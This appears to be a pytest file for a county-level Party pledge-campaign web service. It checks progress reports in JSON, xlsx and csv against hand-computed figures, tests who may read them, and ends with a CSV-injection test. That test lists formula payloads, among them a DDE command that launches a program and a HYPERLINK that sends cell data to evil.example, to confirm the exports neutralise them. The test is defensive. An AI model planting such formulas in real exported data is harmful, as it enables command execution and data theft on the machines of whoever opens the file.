"""End-to-end over HTTP: the progress report of a small county against hand-computed figures, as JSON,
as an .xlsx workbook read back with openpyxl, and as a .csv file; who may read it."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from tests.conftest import Served
from tests.county import GOOD_ITEMS, MEETING, PUBLISH, TODAY, YEAR, County, build_county

PAST = "2020-10-31"
HEADERS = [
    "党组织",
    "类型",
    "承诺书数",
    "提出承诺",
    "审查承诺",
    "公开承诺",
    "践行承诺",
    "考评承诺",
    "已考评",
    "已撤回",
    "逾期",
    "逾期完成",
    "应承诺党员数",
    "已践诺党员数",
    "党员覆盖率",
    "已点评承诺书",
    "点评覆盖率",
    "群众满意率",
    "评议得分",
    "自查报告状态",
    "自评分",
    "考核得分",
    "考核等次",
    "示范点",
    "限期整改",
]
COMMENT = {"achievements": "按时备课", "problems": "家访记录不全", "direction": "坚持家访"}


@pytest.fixture
def county(served: Served) -> Iterator[County]:
    served.clock.set(TODAY)
    c = build_county(served.client(), served.url, deadlines={"pledge_published": PAST}, backfill=True)
    yield c
    c.close()


def ok(r: httpx.Response, status: int = 200) -> dict[str, Any]:
    assert r.status_code == status, r.text
    return dict(r.json())


def fire(client: httpx.Client, path: str, event: str, **body: Any) -> dict[str, Any]:
    return ok(client.post(f"/api/v1/{path}/events", json={"event": event, **body}))


def create_pledge(client: httpx.Client, **subject: int) -> int:
    return int(ok(client.post("/api/v1/pledges", json={"year": YEAR, "items": GOOD_ITEMS, **subject}), 201)["id"])


def seed_pledges(c: County) -> None:
    """Branch a: m1 practising (late, commented), m2 proposing (overdue), the org's pledge reviewing
    (overdue, commented), sec_a's pledge withdrawn. Branch b: nothing."""
    sec, sup, office = c.as_("sec_a"), c.as_("supervisor"), c.as_("office")
    m1 = create_pledge(c.as_("m1"), person_id=c.people["m1"])
    fire(c.as_("m1"), f"pledges/{m1}", "submit")
    fire(sec, f"pledges/{m1}", "approve")
    assert fire(sec, f"pledges/{m1}", "publish", data=PUBLISH)["state"] == "practising"
    ok(sec.post(f"/api/v1/pledges/{m1}/comments", json=COMMENT), 201)
    create_pledge(c.as_("m2"), person_id=c.people["m2"])
    org = create_pledge(sec, org_id=c.orgs["a"])
    fire(sec, f"pledges/{org}", "submit", data=MEETING)
    ok(sup.post(f"/api/v1/pledges/{org}/comments", json=COMMENT), 201)
    own = create_pledge(sec, person_id=c.people["sec_a"])
    assert fire(office, f"pledges/{own}", "withdraw", reason="调离本校")["state"] == "withdrawn"


def seed_year_end(c: County, due: dt.date) -> None:
    """Branch a: a closed appraisal round (the branch and m2 below 80 %), a self-evaluation being
    self-checked (95 points), a nominated demo site, a rectification order due tomorrow."""
    sec, office = c.as_("sec_a"), c.as_("office")
    rid = ok(sec.post("/api/v1/appraisal-rounds", json={"year": YEAR, "org_id": c.orgs["a"]}), 201)["id"]
    fire(sec, f"appraisal-rounds/{rid}", "open")
    org = {"type": "org", "id": c.orgs["a"]}
    m1, m2 = ({"type": "person", "id": c.people[who]} for who in ("m1", "m2"))
    ballots = [("m1", org, "satisfied"), ("m2", org, "fairly"), ("sec_a", org, "basic")]
    ballots += [("m2", m1, "satisfied"), ("appraiser", m2, "dissatisfied")]
    for who, subject, rating in ballots:
        ok(c.as_(who).post(f"/api/v1/appraisal-rounds/{rid}/ballots", json={"subject": subject, "rating": rating}), 201)
    fire(sec, f"appraisal-rounds/{rid}", "close")

    eid = ok(sec.post("/api/v1/self-evaluations", json={"year": YEAR, "org_id": c.orgs["a"]}), 201)["id"]
    fire(sec, f"self-evaluations/{eid}", "start")
    sheet = office.get(f"/api/v1/campaigns/{YEAR}/scorecard").json()
    codes = [(it["code"], it["max_points"]) for a in sheet["areas"] for it in a["items"]]
    items = [{"code": code, "points": top - 1 if i < 5 else top} for i, (code, top) in enumerate(codes)]
    ok(sec.put(f"/api/v1/self-evaluations/{eid}/scores", json={"kind": "self", "items": items}))

    site = {"typical_formulation": "党建带团建", "typical_person": "王老师", "typical_event": "绿色出行宣传周"}
    ok(sec.post("/api/v1/demo-sites", json={"year": YEAR, "org_id": c.orgs["a"], **site}), 201)
    order = {"year": YEAR, "org_id": c.orgs["a"], "problems": "承诺公开不及时", "due_date": str(due)}
    ok(office.post("/api/v1/rectifications", json=order), 201)


def expected_rows(c: County, due: dt.date) -> list[dict[str, Any]]:
    zero = dict.fromkeys(
        ("proposing", "reviewing", "publicizing", "practising", "appraising", "closed", "withdrawn"), 0
    )
    branch_a = {
        "org_id": c.orgs["a"],
        "name": "延庆一中党支部",
        "kind": "branch",
        "parent_id": c.orgs["committee"],
        "pledges_by_state": {**zero, "proposing": 1, "reviewing": 1, "practising": 1, "withdrawn": 1},
        "pledges": 4,
        "overdue": 2,
        "late": 1,
        "members": 3,
        "members_practising": 1,
        "coverage": 0.3333,
        "commented": 2,
        "comment_coverage": 0.6667,
        "all_commented": False,
        "appraisal": {"state": "closed", "satisfaction_rate": 0.6667, "score": 7.33, "below_threshold": True},
        "flagged_subjects": 2,
        "self_evaluation": {
            "state": "self_checking",
            "state_label": "自查中",
            "self_score": 95.0,
            "assessed_score": None,
            "band_label": None,
        },
        "demo_site": {"state": "nominated", "state_label": "已申报"},
        "rectification": {"state": "issued", "state_label": "已下达", "due_date": str(due), "overdue": True},
    }
    branch_b = {
        "org_id": c.orgs["b"],
        "name": "延庆二中党支部",
        "kind": "branch",
        "parent_id": c.orgs["committee"],
        "pledges_by_state": zero,
        "pledges": 0,
        "overdue": 0,
        "late": 0,
        "members": 2,
        "members_practising": 0,
        "coverage": 0.0,
        "commented": 0,
        "comment_coverage": None,
        "all_commented": False,
        "appraisal": None,
        "flagged_subjects": None,
        "self_evaluation": None,
        "demo_site": None,
        "rectification": None,
    }
    return [branch_a, branch_b]


A_CELLS = {
    "党组织": "延庆一中党支部",
    "类型": "党支部",
    "承诺书数": 4,
    "提出承诺": 1,
    "审查承诺": 1,
    "公开承诺": 0,
    "践行承诺": 1,
    "考评承诺": 0,
    "已考评": 0,
    "已撤回": 1,
    "逾期": 2,
    "逾期完成": 1,
    "应承诺党员数": 3,
    "已践诺党员数": 1,
    "党员覆盖率": 0.3333,
    "已点评承诺书": 2,
    "点评覆盖率": 0.6667,
    "群众满意率": 0.6667,
    "评议得分": 7.33,
    "自查报告状态": "自查中",
    "自评分": 95.0,
    "考核得分": None,
    "考核等次": None,
    "示范点": "已申报",
    "限期整改": "已下达（已逾期）",
}
TOTAL_CELLS = {
    **dict.fromkeys(HEADERS),
    **{"党组织": "合计", "承诺书数": 4, "提出承诺": 1, "审查承诺": 1, "公开承诺": 0, "践行承诺": 1},
    **{"考评承诺": 0, "已考评": 0, "已撤回": 1, "逾期": 2, "逾期完成": 1, "应承诺党员数": 5, "已践诺党员数": 1},
    **{"党员覆盖率": 0.2, "已点评承诺书": 2, "点评覆盖率": 0.6667},
}


def test_progress_report_matches_hand_computed_figures(county: County, served: Served) -> None:
    start = served.clock()
    due = start.astimezone(ZoneInfo("Asia/Shanghai")).date() + dt.timedelta(days=1)
    seed_pledges(county)
    seed_year_end(county, due)
    served.clock.set(start + dt.timedelta(days=3))  # the rectification order is now past its due date

    office = county.as_("office")
    report = ok(office.get(f"/api/v1/reports/{YEAR}/progress"))
    assert report["year"] == YEAR and report["timezone"] == "Asia/Shanghai"
    assert report["orgs"] == expected_rows(county, due)
    assert report["totals"] == {
        "pledges": 4,
        "pledges_by_state": report["orgs"][0]["pledges_by_state"],
        "overdue": 2,
        "late": 1,
        "members": 5,
        "members_practising": 1,
        "coverage": 0.2,
        "commented": 2,
        "comment_coverage": 0.6667,
    }
    assert ok(county.as_("supervisor").get(f"/api/v1/reports/{YEAR}/progress"))["orgs"] == report["orgs"]

    r = office.get(f"/api/v1/reports/{YEAR}/progress.xlsx")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["content-disposition"].endswith(
        "filename*=UTF-8''" + quote(f"{YEAR}年度创先争优活动工作进展.xlsx")
    )
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["工作进展"]
    sheet = book["工作进展"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert str(rows[0][0]).startswith(f"{YEAR}年度创先争优活动工作进展（生成时间：")
    assert rows[1] == HEADERS
    assert [row[0] for row in rows[2:]] == ["延庆一中党支部", "延庆二中党支部", "合计"]
    assert dict(zip(HEADERS, rows[2], strict=True)) == A_CELLS
    assert dict(zip(HEADERS, rows[4], strict=True)) == TOTAL_CELLS
    assert sheet.cell(row=3, column=HEADERS.index("党员覆盖率") + 1).number_format == "0.0%"
    assert sheet.cell(row=2, column=1).font.bold and sheet.freeze_panes == "B3"
    assert sheet.column_dimensions["A"].width > 20

    r = office.get(f"/api/v1/reports/{YEAR}/progress.csv")
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].endswith("filename*=UTF-8''" + quote(f"{YEAR}年度创先争优活动工作进展.csv"))
    assert r.content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert lines[0] == HEADERS
    assert lines[1] == ["" if v is None else str(v) for v in A_CELLS.values()]
    assert lines[3] == ["" if v is None else str(v) for v in TOTAL_CELLS.values()]


def test_report_readers(county: County, served: Served) -> None:
    seed_pledges(county)
    mine = ok(county.as_("sec_b").get(f"/api/v1/reports/{YEAR}/progress"))
    assert [row["name"] for row in mine["orgs"]] == ["延庆二中党支部"]
    assert (mine["totals"]["pledges"], mine["totals"]["members"], mine["totals"]["coverage"]) == (0, 2, 0.0)
    theirs = ok(county.as_("sec_a").get(f"/api/v1/reports/{YEAR}/progress"))
    assert [row["name"] for row in theirs["orgs"]] == ["延庆一中党支部"] and theirs["totals"]["overdue"] == 2
    sheet = openpyxl.load_workbook(io.BytesIO(county.as_("sec_b").get(f"/api/v1/reports/{YEAR}/progress.xlsx").content))
    assert [row[0] for row in sheet["工作进展"].iter_rows(min_row=3, values_only=True)] == ["延庆二中党支部", "合计"]

    for who in ("m1", "appraiser"):
        for suffix in ("", ".xlsx", ".csv"):
            r = county.as_(who).get(f"/api/v1/reports/{YEAR}/progress{suffix}")
            assert r.status_code == 403, r.text
            assert r.headers["content-type"].startswith("application/problem+json")
            assert r.json()["type"].endswith("/forbidden")
    assert county.as_("office").get(f"/api/v1/reports/{YEAR + 1}/progress").status_code == 404
    assert county.as_("office").get("/api/v1/reports/1999/progress.xlsx").status_code == 422
    with served.client(token=None) as anonymous:
        assert anonymous.get(f"/api/v1/reports/{YEAR}/progress").status_code == 401


FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", '=HYPERLINK("http://evil.example/?x="&A1)']


def test_a_name_a_spreadsheet_would_run_is_exported_as_text(county: County) -> None:
    """OWASP's CSV injection advice: a text cell starting with = + - @ (or tab, CR) gets a leading quote."""
    office = county.as_("office")
    for name in FORMULAS:
        office.post("/api/v1/orgs", json={"name": name, "kind": "branch", "parent_id": county.orgs["committee"]})
    report = ok(office.get(f"/api/v1/reports/{YEAR}/progress"))
    assert set(FORMULAS) <= {row["name"] for row in report["orgs"]}, "the JSON keeps the names as they are"

    book = openpyxl.load_workbook(io.BytesIO(office.get(f"/api/v1/reports/{YEAR}/progress.xlsx").content))
    sheet = book["工作进展"]
    names = [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert {"'" + name for name in FORMULAS} <= set(names) and not set(FORMULAS) & set(names)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "no formula anywhere"
    counts = next(row for row in sheet.iter_rows(min_row=3, values_only=True) if row[0] == "'" + FORMULAS[0])
    assert counts[HEADERS.index("承诺书数")] == 0, "numbers stay numbers"

    text = office.get(f"/api/v1/reports/{YEAR}/progress.csv").content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert {"'" + name for name in FORMULAS} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
